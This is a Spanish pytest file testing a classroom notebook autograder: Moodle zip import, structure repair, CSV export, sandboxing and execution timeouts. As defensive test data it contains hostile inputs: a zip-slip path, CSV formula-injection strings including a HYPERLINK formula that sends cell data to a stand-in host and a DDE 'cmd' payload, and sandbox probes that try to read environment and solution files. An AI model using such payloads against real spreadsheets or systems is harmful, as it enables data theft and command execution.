"""Piezas del calificador de la clase, una a una (rápidas; el lote completo está en test_classroom_lote.py).

Importar (Moodle y carpeta), reparar la estructura de las entregas (casos de grading-faults.md),
CSV, retroalimentación, caja de arena y ejecución con tiempos máximos.
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import shutil
import sys
import zipfile
from pathlib import Path

import nbformat
import pytest

sys.path.insert(0, str(Path(__file__).parent))
from fixtures_classroom import casos  # noqa: E402

from helpers import repair  # noqa: E402
from helpers.classroom import assignments, batch, export, feedback, lms_import, probe, sandbox  # noqa: E402
from helpers.classroom.__main__ import _parser  # noqa: E402
from helpers.classroom.layout import ClassDir, write_json  # noqa: E402
from helpers.course_files import ROOT  # noqa: E402

NB1 = "01_introduccion_peft"


@pytest.fixture(scope="module")
def nb1():
    return casos.Notebook(NB1)


def ids(nb) -> list[str]:
    return [casos.meta(c)["grade_id"] for c in nb.cells if casos.meta(c).get("grade_id")]


def fake_notebook(grade_ids: list[str]) -> bytes:
    nb = nbformat.v4.new_notebook()
    for gid in grade_ids:
        cell = nbformat.v4.new_code_cell(f"# {gid}")
        cell.metadata["nbgrader"] = {
            "grade": False,
            "grade_id": gid,
            "locked": False,
            "schema_version": 3,
            "solution": True,
            "task": False,
        }
        nb.cells.append(cell)
    return nbformat.writes(nb).encode()


# --- orden y ayuda -----------------------------------------------------------------------------
def test_ayuda_en_espanol():
    text = _parser().format_help()
    assert "uso:" in text and "opciones" in text and "muestra esta ayuda" in text
    sub = _parser()._subparsers._group_actions[0].choices["calificar"].format_help()
    for option in (
        "--entregas",
        "--tarea",
        "--clase",
        "--perfil",
        "--trabajadores",
        "--tiempo-celda",
        "--tiempo-total",
    ):
        assert option in sub
    assert "show this help" not in sub


def test_la_clase_vive_fuera_del_repositorio(tmp_path):
    with pytest.raises(batch.BatchError, match="repositorio"):
        batch.check_class_dir(ROOT / "clase", tmp_path)
    with pytest.raises(batch.BatchError, match="entregas"):
        batch.check_class_dir(tmp_path / "entregas" / "clase", tmp_path / "entregas")
    batch.check_class_dir(tmp_path / "clase", tmp_path / "entregas")
    # Ni la raíz, ni la carpeta personal (ni una que la contenga), ni una carpeta con otras cosas.
    for bad in (Path("/"), Path.home(), Path.home().parent, Path("/etc")):
        with pytest.raises(batch.BatchError, match="no puede ser"):
            batch.check_class_dir(bad, tmp_path / "entregas")
    (tmp_path / "otra" / "documentos").mkdir(parents=True)
    with pytest.raises(batch.BatchError, match="otras cosas"):
        batch.check_class_dir(tmp_path / "otra", tmp_path / "entregas")
    ClassDir(tmp_path / "clase").create()
    (tmp_path / "clase" / "calificaciones.csv").write_text("")
    batch.check_class_dir(tmp_path / "clase", tmp_path / "entregas")  # una clase ya creada sí vale


# --- importar --------------------------------------------------------------------------------
def test_zip_de_moodle(tmp_path):
    nbs = {NB1: {"count_params", "test_count_params"}, "02_lora_matematicas": {"lora_params"}}
    path = tmp_path / "moodle.zip"
    with zipfile.ZipFile(path, "w") as zf:

        def add(name, data, date=(2025, 3, 1, 10, 0, 0)):
            zf.writestr(zipfile.ZipInfo(name, date_time=date), data)

        add(f"Ana García_11_assignsubmission_file_/{NB1}.ipynb", b"viejo", (2025, 3, 1, 9, 0, 0))
        add(f"Ana García_11_assignsubmission_file_/{NB1} (1).ipynb", b"nuevo", (2025, 3, 2, 9, 0, 0))
        add("Luis Pérez_12_assignsubmission_file_/Copia de 01_Introducción_PEFT.ipynb", b"{}")
        add("Luis Pérez_12_assignsubmission_file_/entrega.ipynb", fake_notebook(["lora_params"]))
        add("Marta Ruiz_13_assignsubmission_file_/sub/cosas.ipynb", b"{}")
        add("Marta Ruiz_13_assignsubmission_file_/notas.txt", b"no es un cuaderno")
        add("__MACOSX/Ana García_11_assignsubmission_file_/._x.ipynb", b"basura")
        add("../../fuera.ipynb", b"zip-slip")
        zf.writestr(zipfile.ZipInfo("Nadia Sol_14_assignsubmission_file_/"), b"")
    students = lms_import.read_export(path)
    assert sorted(students) == ["ana-garcia-11", "luis-perez-12", "marta-ruiz-13", "nadia-sol-14"]
    assert students["ana-garcia-11"].name == "Ana García"
    assert students["nadia-sol-14"].uploads == []
    chosen, loose = lms_import.match_uploads(students["ana-garcia-11"].uploads, nbs)
    upload, notes = chosen[NB1]
    assert upload.data == b"nuevo" and any("2 subidas" in n and "más reciente" in n for n in notes)
    chosen, loose = lms_import.match_uploads(students["luis-perez-12"].uploads, nbs)
    assert chosen[NB1][0].data == b"{}" and "por su nombre" in chosen[NB1][1][0]
    assert chosen["02_lora_matematicas"][0].label.endswith("entrega.ipynb")
    assert "por su contenido" in chosen["02_lora_matematicas"][1][0]
    chosen, loose = lms_import.match_uploads(students["marta-ruiz-13"].uploads, {NB1: set()})
    assert "por ser el único archivo" in chosen[NB1][1][0]


def test_carpeta_normal_sin_enlaces_simbolicos(tmp_path):
    src = tmp_path / "entregas"
    (src / "Ana").mkdir(parents=True)
    (src / "Ana" / f"{NB1}.ipynb").write_bytes(b"ana")
    (src / "vacío").mkdir()
    (src / "Pepe").mkdir()
    secret = tmp_path / "secreto.txt"
    secret.write_text("contraseña")
    os.symlink(secret, src / "Pepe" / f"{NB1}.ipynb")
    (src / ".oculta").mkdir()
    (src / ".oculta" / f"{NB1}.ipynb").write_bytes(b"oculta")
    (src / ".ipynb_checkpoints").mkdir()
    students = lms_import.read_export(src)
    (src / "__MACOSX").mkdir()
    assert sorted(students) == ["ana", "oculta", "pepe", "vacio"]  # «.oculta» también es de alguien
    assert students["pepe"].uploads == [] and "enlace simbólico" in students["pepe"].skipped[0]
    cd = ClassDir(tmp_path / "clase")
    cd.create()
    index = lms_import.import_submissions(cd, src, {NB1: set()})
    assert cd.submission("ana", NB1).read_bytes() == b"ana"
    assert NB1 not in index["entregas"]["pepe"] and NB1 not in index["entregas"]["vacio"]
    # Una importación posterior con otro archivo no borra el anterior: lo guarda.
    (src / "Ana" / f"{NB1}.ipynb").write_bytes(b"ana v2")
    lms_import.import_submissions(cd, src, {NB1: set()})
    assert cd.submission("ana", NB1).read_bytes() == b"ana v2"
    assert [p.read_bytes() for p in (cd.previous / "ana").iterdir()] == [b"ana"]


def _zip_bytes(entries: dict[str, bytes]) -> bytearray:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return bytearray(buffer.getvalue())


def test_zip_con_entradas_danadas_califica_el_resto(tmp_path):
    """Una entrada con el CRC mal, o con cabeceras que dicen ocupar gigas, no para la importación:
    esa persona sale en el CSV con el motivo y las demás se importan."""
    raw = _zip_bytes(
        {
            f"ana/{NB1}.ipynb": b"A" * 100,
            f"beto/{NB1}.ipynb": b"B" * 100,
            f"carla/{NB1}.ipynb": b"C" * 100,
            f"dani/{NB1}.ipynb": b"D" * 100,
        }
    )
    raw[raw.index(b"B" * 100)] = ord("X")  # el contenido ya no cuadra con su CRC-32
    at = raw.find(b"PK\x01\x02")
    while at >= 0:  # cabeceras del directorio central de carla y dani: 3,9 GB descomprimido cada una
        name_len = int.from_bytes(raw[at + 28 : at + 30], "little")
        if raw[at + 46 : at + 46 + name_len].split(b"/")[0] in (b"carla", b"dani"):
            raw[at + 24 : at + 28] = (0xE8000000).to_bytes(4, "little")
        at = raw.find(b"PK\x01\x02", at + 4)
    path = tmp_path / "entregas.zip"
    path.write_bytes(bytes(raw))
    cd = ClassDir(tmp_path / "clase")
    cd.create()
    index = lms_import.import_submissions(cd, path, {NB1: set()})
    assert sorted(index["alumnos"]) == ["ana", "beto", "carla", "dani"]
    assert cd.submission("ana", NB1).read_bytes() == b"A" * 100
    assert not cd.submission("beto", NB1).exists() and not cd.submission("carla", NB1).exists()
    write_json(cd.template(NB1) / "info.json", {"puntuacion_maxima": 12.0})
    export.write_csv(cd)
    rows = {r["alumno"]: r for r in csv.DictReader(io.StringIO(cd.csv.read_text(encoding="utf-8")))}
    assert rows["beto"]["estado"] == "falta la entrega" and "CRC" in rows["beto"]["observaciones"]
    assert "3.9 GB" in rows["carla"]["observaciones"] and "vuelva a subir" in rows["dani"]["observaciones"]


def test_json_anidado_sin_fin_es_json_invalido():
    """200 000 listas anidadas (o 5 000, que sí se leen) no rompen el calificador: JSON inválido."""
    for depth in (200_000, 5_000, repair.MAX_DEPTH + 1):
        nested = "[" * depth + "]" * depth
        data = (f'{{"cells": [], "metadata": {{"x": {nested}}}, "nbformat": 4, "nbformat_minor": 5}}').encode()
        with pytest.raises(repair.Ungradable, match="JSON inválido .anidado"):
            repair.load_notebook(data)
    shallow = "[" * 10 + "]" * 10
    repair.load_notebook(
        (f'{{"cells": [], "metadata": {{"x": {shallow}}}, "nbformat": 4, "nbformat_minor": 5}}').encode()
    )


def test_csv_sin_formulas(tmp_path):
    """Un nombre como «=HYPERLINK(...)» no llega al CSV como fórmula (OWASP: se antepone «'»)."""
    cd = ClassDir(tmp_path / "clase")
    cd.create()
    write_json(cd.template(NB1) / "info.json", {"puntuacion_maxima": 10.0})
    bad = {
        "a": '=HYPERLINK("http://x.example/?"&A1,"clic")',
        "b": "+1+1",
        "c": "-2+3",
        "d": "@SUM(A1)",
        "e": "\t=1",
        "f": "\r=1",
        "g": "Ana = Luis",
    }
    write_json(
        cd.index,
        {
            "alumnos": {k: {"nombre": v} for k, v in bad.items()},
            "entregas": {"a": {NB1: {"sha256": "x"}}},
            "cuadernos": [NB1],
        },
    )
    write_json(
        cd.result_dir(NB1, "a") / "resultado.json",
        {
            "sha256": "x",
            "estado": "calificado",
            "puntuacion": 7.5,
            "puntuacion_maxima": 10.0,
            "observaciones": ["=cmd|' /C calc'!A0", "otra"],
        },
    )
    export.write_csv(cd)
    rows = {r["alumno"]: r for r in csv.DictReader(io.StringIO(cd.csv.read_bytes().decode("utf-8"), newline=""))}
    for sid, name in bad.items():
        cell = rows[sid]["nombre"]
        assert not cell.startswith(export.FORMULA_START), cell
        assert cell == (name if sid == "g" else "'" + name.replace("\r", "\n"))
    assert rows["a"]["observaciones"].startswith("'=cmd") and rows["a"]["puntuacion"] == "7.5"


_OWN_COUNT = """def count_params(model):
    vistos = {}
    for tensor in model.parameters():
        vistos[id(tensor)] = tensor
    todos = sum(x.numel() for x in vistos.values())
    libres = sum(x.numel() for x in vistos.values() if x.requires_grad)
    if todos < libres:
        raise RuntimeError("imposible")
    return todos, libres"""


def test_informe_de_copias(nb1, tmp_path):
    """La solución publicada con otros nombres y comentarios se ve; dos entregas iguales entre sí
    también; el cuaderno publicado sin tocar no se parece a nada (la plantilla no cuenta); y las
    notas no cambian: solo hay observaciones y copias.csv."""
    from helpers.classroom import copies

    renamed = nb1.solved()
    for cell in renamed.cells:
        if casos.is_solution(cell):
            cell.source = "# lo he hecho yo\n" + cell.source.replace("total", "suma").replace("param", "p")
    friends = nb1.fresh()
    friends.cells[nb1.index(friends, "count_params")].source = _OWN_COUNT
    cd = ClassDir(tmp_path / "clase")
    cd.create()
    subs = {"copion": renamed, "amiga1": friends, "amiga2": friends, "plantilla": nb1.fresh()}
    for sid, nb in subs.items():
        cd.submission(sid, NB1).parent.mkdir(parents=True, exist_ok=True)
        cd.submission(sid, NB1).write_bytes(casos.to_bytes(nb))
    index = {
        "alumnos": {sid: {"nombre": sid} for sid in subs},
        "entregas": {sid: {NB1: {}} for sid in subs},
        "cuadernos": [NB1],
    }
    copies.write_report(cd, NB1, index, nb1.solution, nb1.released)
    rows = list(csv.DictReader(io.StringIO(cd.copies_csv.read_text(encoding="utf-8"))))
    pairs = {(r["alumno"], r["comparado_con"]): float(r["parecido"]) for r in rows}
    assert pairs[("copion", copies.PUBLISHED)] >= 0.9
    assert pairs[("amiga1", "amiga2")] == pairs[("amiga2", "amiga1")] == 1.0
    assert ("amiga1", copies.PUBLISHED) not in pairs and not any(a == "plantilla" for a, _ in pairs)
    notes = json.loads(cd.copies_json.read_text(encoding="utf-8"))[NB1]
    assert sorted(notes) == ["amiga1", "amiga2", "copion"]
    assert "solución publicada" in notes["copion"][0] and "copias.csv" in notes["copion"][0]


def test_nombres_normalizados():
    assert lms_import.normalize_name("Copia de 01_Introducción PEFT (1)") == "01_introduccion_peft"
    assert lms_import.normalize_name("01-introduccion-peft-copia 2") == "01_introduccion_peft"


# --- reparar la estructura -------------------------------------------------------------------
def test_json_invalido_y_no_cuadernos():
    for data, reason in (
        (b'{"cells": [', "JSON inválido"),
        (b"", "JSON inválido"),
        (b"\xff\xfe", "JSON inválido"),
        (b"[1, 2]", "no es un cuaderno"),
        (b'{"cells": [], "nbformat": 2}', "versión"),
    ):
        with pytest.raises(repair.Ungradable, match=reason):
            repair.load_notebook(data)
    with pytest.raises(repair.Ungradable, match="demasiado grande"):
        repair.load_notebook(b" " * (repair.MAX_BYTES + 1))
    # Por debajo del máximo del archivo, pero con 9 MB de código: se copiaría en tres archivos.
    big = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1  # " + "a" * 9_000_000)])
    with pytest.raises(repair.Ungradable, match="demasiado grande sin sus salidas"):
        repair.load_notebook(nbformat.writes(big).encode())


@pytest.mark.parametrize(
    "case", ["correct_with_noise", "structure", "no_metadata", "reordered", "loop_stderr_output", "no_traceback"]
)
def test_reparacion_deja_la_estructura_publicada(nb1, case):
    data, expect = getattr(casos, case)(nb1)
    fixed = repair.repair(repair.load_notebook(data), nb1.released)
    assert ids(fixed.nb) == ids(nb1.released)
    by_id = {casos.meta(c)["grade_id"]: c for c in fixed.nb.cells if casos.meta(c)}
    for cell in nb1.released.cells:
        gid = casos.meta(cell).get("grade_id")
        if gid:
            assert by_id[gid].cell_type == cell.cell_type
    assert fixed.nb.metadata["kernelspec"] == nb1.released.metadata["kernelspec"]
    nbformat.validate(fixed.nb)
    for fragment in expect.notas:
        if "tiempo" not in fragment and "trazas" not in fragment:  # esas las anota la ejecución
            assert any(fragment in n for n in fixed.notes), (fragment, fixed.notes)
    if case == "correct_with_noise":
        assert fixed.notes == []  # el ruido de versión no es una alarma


def test_sin_metadatos_conserva_la_respuesta(nb1):
    data, _ = casos.no_metadata(nb1)
    fixed = repair.repair(repair.load_notebook(data), nb1.released)
    solved = {casos.meta(c)["grade_id"]: c.source for c in nb1.solved().cells if casos.is_solution(c)}
    for cell in fixed.nb.cells:
        if casos.is_solution(cell):
            assert cell.source == solved[casos.meta(cell)["grade_id"]]


@pytest.mark.parametrize("where", ["arriba del todo", "al final", "antes de la preparación"])
def test_celda_de_pruebas_movida_vuelve_sola_a_su_sitio(nb1, where):
    """Una celda de pruebas arrastrada a otro sitio vuelve a su sitio sin llevarse las celdas que la
    seguían (con la preparación detrás de ella, las pruebas anteriores fallaban: −2 puntos)."""
    solved = nb1.solved()
    for tid in (nb1.tests[0], nb1.tests[-1]):
        sub = nb1.solved()
        cell = sub.cells.pop(nb1.index(sub, tid))
        at = {"arriba del todo": 0, "al final": len(sub.cells), "antes de la preparación": nb1.setup_index(sub)}[where]
        sub.cells.insert(at, cell)
        fixed = repair.repair(repair.load_notebook(casos.to_bytes(sub)), nb1.released)
        # La última prueba al final sigue en orden respecto a las demás celdas calificadas: se
        # respeta donde la puso (quizá detrás de celdas suyas que necesita).
        keep = where == "al final" and tid == nb1.tests[-1]
        assert [c.source for c in fixed.nb.cells] == [c.source for c in (sub if keep else solved).cells], (where, tid)
        assert any("reordenadas" in n for n in fixed.notes) == (not keep)


def test_solucion_borrada_no_tapa_otra_celda(nb1):
    sub = nb1.solved()
    first = next(c for c in sub.cells if casos.is_solution(c))
    copy_cell = nbformat.v4.new_code_cell(first.source)  # la respuesta sigue, en una celda normal
    sub.cells[sub.cells.index(first)] = copy_cell
    fixed = repair.repair(repair.load_notebook(casos.to_bytes(sub)), nb1.released)
    restored = next(c for c in fixed.nb.cells if casos.meta(c).get("grade_id") == casos.meta(first)["grade_id"])
    assert restored.source == first.source  # recuperada por su firma, no sustituida por el enunciado


def test_pruebas_solo_con_assert():
    nb = nbformat.v4.new_notebook()
    for i, src in enumerate(
        ["assert 1 == 1", "helpers.check_equal(1, 1, 'x')", "0.25", "import numpy as np\nnp.False_"]
    ):
        cell = nbformat.v4.new_code_cell(src)
        cell.metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": f"t{i}", "points": 1}
        nb.cells.append(cell)
    assert assignments.test_cells_only_assert(nb) == ["t2", "t3"]


def test_perdida_nan_o_vacia_no_pasa():
    """Caso 20: la comprobación de la pérdida falla con NaN o con un historial vacío."""
    from helpers import check_loss_decreases

    for history in ([], [math.nan] * 10, [3.0, 2.0, math.inf, 1.0, 0.5, 0.4], [1.0] * 10):
        with pytest.raises(AssertionError):
            check_loss_decreases(history)


# --- CSV y retroalimentación -----------------------------------------------------------------
def test_csv_estados_y_orden(tmp_path):
    cd = ClassDir(tmp_path / "clase")
    cd.create()
    write_json(cd.template(NB1) / "info.json", {"puntuacion_maxima": 10.0})
    write_json(
        cd.index,
        {
            "alumnos": {
                "zoe": {"nombre": "Zoë"},
                "ana": {"nombre": "Ana"},
                "luis": {"nombre": "Luis"},
                "eva": {"nombre": "Eva"},
            },
            "entregas": {"zoe": {NB1: {"sha256": "a"}}, "ana": {NB1: {"sha256": "b"}}, "eva": {NB1: {"sha256": "c"}}},
            "cuadernos": [NB1],
        },
    )
    write_json(
        cd.result_dir(NB1, "zoe") / "resultado.json",
        {
            "sha256": "a",
            "estado": "calificado",
            "puntuacion": 7.5,
            "puntuacion_maxima": 10.0,
            "observaciones": ["una", "dos"],
        },
    )
    write_json(
        cd.result_dir(NB1, "ana") / "resultado.json",
        {
            "sha256": "b",
            "estado": "no calificable: JSON inválido",
            "puntuacion": None,
            "puntuacion_maxima": 10.0,
            "observaciones": [],
        },
    )
    export.write_csv(cd)
    first = cd.csv.read_bytes()
    export.write_csv(cd)
    assert cd.csv.read_bytes() == first
    rows = list(csv.DictReader(io.StringIO(first.decode())))
    assert [r["alumno"] for r in rows] == ["ana", "eva", "luis", "zoe"]
    assert [(r["puntuacion"], r["estado"]) for r in rows] == [
        ("", "no calificable: JSON inválido"),
        ("", export.PENDING),
        ("", "falta la entrega"),
        ("7.5", "calificado"),
    ]
    assert rows[3]["observaciones"] == "una | dos" and rows[3]["nombre"] == "Zoë"


def test_plantilla_de_retroalimentacion_en_espanol(tmp_path):
    folder = feedback.write_template(tmp_path) / feedback.TEMPLATE_NAME
    text = (folder / "index.html.j2").read_text(encoding="utf-8")
    assert "Puntuación" in text and "Tu respuesta" in text and 'lang="es"' in text
    for english in ("Score", "Student's answer", "Test cell", "(Top)"):
        assert english not in text
    page = feedback.add_summary(
        '<body>\n  <a name="top"></a>',
        student="Ana <b>",
        notebook=NB1,
        status="calificado",
        score=7.0,
        max_score=10.0,
        notes=["nota & media"],
    )
    assert "Ana &lt;b&gt;" in page and "7 / 10" in page and "nota &amp; media" in page


def test_trazas_de_las_pruebas_solo_con_el_mensaje():
    cell = nbformat.v4.new_code_cell("assert f(5) == 12")
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": "t", "points": 1}
    cell.outputs = [
        nbformat.v4.new_output(
            "error",
            ename="AssertionError",
            evalue="f(5): el valor 11 no es correcto.",
            traceback=["----> 1 assert f(5) == 12  # prueba oculta"],
        )
    ]
    cell, _ = feedback.HideTestTracebacks().preprocess_cell(cell, {}, 0)
    assert cell.outputs[0].traceback == ["AssertionError: f(5): el valor 11 no es correcto."]


# --- caja de arena -----------------------------------------------------------------------------
needs_sandbox = pytest.mark.skipif(
    not sandbox.available()[0], reason=f"sin caja de arena en esta máquina: {sandbox.available()[1]}"
)


@needs_sandbox
def test_caja_de_arena_no_deja_ver_ni_tocar_nada(tmp_path):
    cd = ClassDir(tmp_path / "clase")
    cd.create()
    # Otra entrega y un libro de notas de verdad en la carpeta de la clase.
    (cd.submissions / "otra").mkdir(parents=True)
    (cd.submissions / "otra" / f"{NB1}.ipynb").write_text("{}")
    (cd.course / "gradebook.db").write_bytes(b"SQLite format 3\x00")
    reads, writes, connects = probe.default_targets(cd)
    reads += [
        str(cd.submissions / "otra" / f"{NB1}.ipynb"),
        str(ROOT / "solutions" / NB1 / f"{NB1}.ipynb"),
        str(ROOT / "tests"),
        f"/proc/{os.getpid()}/environ",
    ]
    result, output = probe.run_in_sandbox(cd, probe.probe_source(reads, writes, connects))
    assert result is not None, output
    assert (result["uid"] != 0 or os.geteuid() != 0) and result["procesos_visibles"] <= 3
    assert {t: o for t, o in result["leer"].items() if o == "permitido"} == {}
    assert {t: o for t, o in result["escribir"].items() if o == "permitido"} == {writes[-1]: "permitido"}
    assert all(o != "permitido" for o in result["red"].values())
    assert not (ROOT / "helpers" / ".sonda").exists() and not (cd.root / ".sonda").exists()
    assert (cd.course / "gradebook.db").read_bytes() == b"SQLite format 3\x00"


# --- ejecución con tiempos máximos (núcleo normal, sin nbgrader ni caja: rápido) -------------------
def _grade_cell(source: str, gid: str):
    cell = nbformat.v4.new_code_cell(source)
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": gid, "points": 1, "locked": True}
    return cell


def _execute(tmp_path, cells, **traits):
    from helpers.classroom import kernel

    report = tmp_path / "informe.json"
    kernel.configure(spec_path=None, info_path=None, report_path=str(report))
    try:
        nb = nbformat.v4.new_notebook(cells=cells)
        nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
        executor = kernel.SandboxedExecute(**traits)
        executor.preprocess(nb, {"metadata": {"path": str(tmp_path)}})
    finally:
        kernel.configure(spec_path=None, info_path=None, report_path=None)
    return nb, json.loads(report.read_text())


def _enames(cell) -> list[str]:
    return [o.get("ename") for o in cell.get("outputs", []) if o.get("output_type") == "error"]


@pytest.mark.slow
def test_bucle_resultado_suelto_y_nucleo_muerto(tmp_path):
    cells = [
        nbformat.v4.new_code_cell("x = 1"),
        nbformat.v4.new_code_cell("while True:\n    pass"),  # 10: se interrumpe y se sigue
        _grade_cell("x + 1\n0.25", "suelto"),  # 14: el 0.25 no es nota parcial
        _grade_cell("assert x == 1", "antes"),
        nbformat.v4.new_code_cell("import os\nos._exit(3)"),  # 11: el núcleo muere
        _grade_cell("assert True", "despues"),
    ]
    nb, report = _execute(tmp_path, cells, timeout=4)
    assert "CellTimeoutError" in _enames(nb.cells[1]) and report["timeouts"] == [1]
    assert not [o for o in nb.cells[2].outputs if o.output_type == "execute_result"] and report["ignored_results"] == [
        2
    ]
    assert _enames(nb.cells[3]) == []
    assert report["dead_kernel"] == 4 and "DeadKernelError" in _enames(nb.cells[4])
    assert _enames(nb.cells[5]) == ["CeldaNoEjecutada"]  # sin esto nbgrader le daría la nota máxima


@pytest.mark.slow
def test_presupuesto_total(tmp_path):
    cells = [nbformat.v4.new_code_cell("import time\ntime.sleep(2)") for _ in range(5)] + [
        _grade_cell("assert True", "t")
    ]
    nb, report = _execute(tmp_path, cells, timeout=30, total_budget=5)
    assert report["budget_exhausted"] is not None and report["timeouts"] == []
    assert _enames(nb.cells[-1]) == ["CeldaNoEjecutada"]
    assert report["seconds"] < 20


@pytest.mark.slow
def test_salida_del_cuaderno_acotada_antes_de_escribir(tmp_path):
    """Lo que imprime una entrega tiene un tope por celda y otro para el cuaderno entero (texto,
    errores enormes, actualizaciones de display): el cuaderno calificado y la retroalimentación
    salen de ahí y quedan acotados."""
    cap = 150_000  # por celda; el cuaderno entero, el doble
    cells = [nbformat.v4.new_code_cell("print('w' * 200_000)")]  # 0: pasa de su celda
    cells += [nbformat.v4.new_code_cell("print('x' * 120_000)") for _ in range(3)]  # 3: pasa del cuaderno
    cells.append(nbformat.v4.new_code_cell("raise ValueError('y' * 500_000)"))  # 4: se acorta
    cells.append(
        nbformat.v4.new_code_cell(
            "from IPython.display import display, update_display\n"
            "display('poco', display_id='d')\nupdate_display('z' * 500_000, display_id='d')"
        )
    )
    cells.append(_grade_cell("assert True", "t"))
    nb, report = _execute(tmp_path, cells, timeout=60, max_output_chars=cap)
    written = len(json.dumps([c.get("outputs", []) for c in nb.cells], ensure_ascii=False))
    assert written < 2 * cap + 10_000, written
    assert report["truncated"] == [0, 3, 4]
    assert _enames(nb.cells[4]) == ["ValueError"]  # un error acortado, pero nunca quitado
    assert all(
        any(o.get("text") == kernel_mod().TRUNCATED_TEXT for o in nb.cells[i].outputs) for i in report["truncated"]
    )
    assert _enames(nb.cells[-1]) == []  # las pruebas se ejecutan igual


def kernel_mod():
    from helpers.classroom import kernel

    return kernel


@pytest.mark.slow
def test_vigilantes_memoria_entre_procesos_y_nucleo_que_no_atiende(tmp_path):
    """Dos formas de tener ocupado a un trabajador que ahora se paran enseguida (sin esperar el
    tiempo máximo de cada celda, que aquí es de 10 minutos: si la prueba termina, lo paró el vigilante):
    procesos que juntos pasan de la memoria (cada uno por debajo de RLIMIT_AS) y un bucle en C
    que no atiende la interrupción."""
    hog = (
        "import subprocess, sys\n"
        "code = 'b = bytearray(200 * 2**20)\\nfor i in range(0, len(b), 4096): b[i] = 1\\n"
        "import time; time.sleep(600)'\n"
        "procs = [subprocess.Popen([sys.executable, '-c', code]) for _ in range(4)]\n"
        "import time; time.sleep(600)"
    )
    nb, report = _execute(
        tmp_path,
        [nbformat.v4.new_code_cell(hog), _grade_cell("assert True", "t")],
        timeout=600,
        memory_limit=500 * 2**20,
    )
    assert report["memory"] == 0 and report["memory_watchdog"] > 500 * 2**20 and report["dead_kernel"] == 0
    assert _enames(nb.cells[1]) == ["CeldaNoEjecutada"]
    busy = nbformat.v4.new_code_cell("sum(range(10**14))")  # en C: no mira las señales
    nb, report = _execute(tmp_path, [busy, _grade_cell("assert True", "t")], timeout=3)
    assert report["stuck"] == 0 and report["timeouts"] == [0]
    assert _enames(nb.cells[1]) == ["CeldaNoEjecutada"]


@pytest.mark.slow
def test_cambiar_el_cuaderno_regenera_la_plantilla_y_el_curso(tmp_path):
    """Si cambia la solución, la plantilla y el curso maestro se regeneran aunque ya haya notas."""
    import shutil

    solutions = tmp_path / "solutions"
    name = "99_prueba"
    (solutions / name).mkdir(parents=True)
    nb = nbformat.v4.new_notebook()
    sol = nbformat.v4.new_code_cell("def f():\n    ### BEGIN SOLUTION\n    return 1\n    ### END SOLUTION")
    sol.metadata["nbgrader"] = {
        "grade": False,
        "grade_id": "f",
        "locked": False,
        "schema_version": 3,
        "solution": True,
        "task": False,
    }
    test = nbformat.v4.new_code_cell("assert f() == 1")
    test.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "t",
        "locked": True,
        "points": 2,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    nb.cells = [sol, test]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nb, solutions / name / f"{name}.ipynb")
    cd = ClassDir(tmp_path / "clase")
    cd.create()
    info = assignments.prepare_template(cd, name, solutions)
    assignments.prepare_master(cd, name, info, solutions)
    assert info["puntuacion_maxima"] == 2.0
    export.merge_into_gradebook(cd, [{"cuaderno": name, "alumno": "ana", "nombre": "Ana", "celdas": {"t": [2.0, 2.0]}}])
    from nbgrader.api import Gradebook

    db = cd.course / "gradebook.db"
    with Gradebook(f"sqlite:///{db}") as gb:  # lo que pone el profesorado en formgrader
        gb.find_grade("t", name, name, "ana").manual_score = 1.5
        gb.find_comment("f", name, name, "ana").manual_comment = "Bien razonado"
        gb.db.commit()
    assert assignments.prepare_template(cd, name, solutions) == info  # sin cambios: se reutiliza
    # Más puntos y una celda de pruebas nueva: nbgrader no regenera un cuaderno con entregas.
    test.metadata["nbgrader"]["points"] = 5
    extra = nbformat.v4.new_code_cell("assert f() + 1 == 2")
    extra.metadata["nbgrader"] = dict(test.metadata["nbgrader"], grade_id="t2", points=1)
    nb.cells.append(extra)
    nbformat.write(nb, solutions / name / f"{name}.ipynb")
    info2 = assignments.prepare_template(cd, name, solutions)
    assignments.prepare_master(cd, name, info2, solutions)
    assert info2["puntuacion_maxima"] == 6.0 and info2["huella"] != info["huella"]
    assert export.check_integrity(db)
    # Lo puesto a mano sigue (y hay una copia del libro viejo).
    with Gradebook(f"sqlite:///{db}") as gb:
        assert gb.find_grade("t", name, name, "ana").manual_score == 1.5
        assert gb.find_comment("f", name, name, "ana").manual_comment == "Bien razonado"
        assert gb.find_grade("t2", name, name, "ana").manual_score is None
    assert len(list((cd.course / "copias").glob("gradebook-*.db"))) == 1
    shutil.rmtree(tmp_path / "clase")


# --- lo que vio la revisión (punto 5 del issue 10) ------------------------------------------------
def test_indicadores_de_nbgrader_restaurados(nb1):
    """Cambiar grade/solution/locked/points de una celda no cambia cómo se califica."""
    sub = nb1.solved()
    t0 = nb1.tests[0]
    sub.cells[nb1.index(sub, t0)].metadata["nbgrader"].update(grade=False, solution=True, points=0)
    sub.cells[nb1.index(sub, "count_params")].metadata["nbgrader"].update(grade=True, locked=True, points=50)
    fixed = repair.repair(repair.load_notebook(casos.to_bytes(sub)), nb1.released)
    for gid in (t0, "count_params"):
        got = casos.meta(fixed.nb.cells[nb1.index(fixed.nb, gid)])
        assert got == casos.meta(nb1.released.cells[nb1.index(nb1.released, gid)])
    assert any("indicadores de nbgrader de la celda «count_params»" in n for n in fixed.notes), fixed.notes
    assert any(f"«{t0}»" in n and "indicadores" in n for n in fixed.notes), fixed.notes


def test_moodle_por_id_aunque_cambie_el_nombre(tmp_path):
    cd = ClassDir(tmp_path / "clase")
    cd.create()
    for i, (name, data) in enumerate((("Ana García", b"v1"), ("Ana García Pérez", b"v2"))):
        path = tmp_path / f"moodle{i}.zip"
        with zipfile.ZipFile(path, "w") as zf:
            zf.writestr(f"{name}_11_assignsubmission_file_/{NB1}.ipynb", data)
        index = lms_import.import_submissions(cd, path, {NB1: set()})
    assert list(index["alumnos"]) == ["ana-garcia-11"]
    assert index["alumnos"]["ana-garcia-11"]["nombre"] == "Ana García Pérez"
